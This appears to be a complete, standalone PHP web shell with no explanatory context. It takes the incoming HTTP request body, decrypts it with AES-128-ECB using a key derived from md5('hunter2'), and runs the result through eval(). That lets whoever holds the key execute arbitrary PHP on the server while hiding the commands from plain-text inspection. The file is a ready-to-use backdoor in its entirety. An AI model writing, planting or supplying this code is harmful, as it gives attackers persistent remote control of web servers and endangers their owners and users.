<?php
$key = substr(md5('hunter2'), 0, 16);
$p = openssl_decrypt(file_get_contents('php://input'), 'AES-128-ECB', $key);
eval($p);
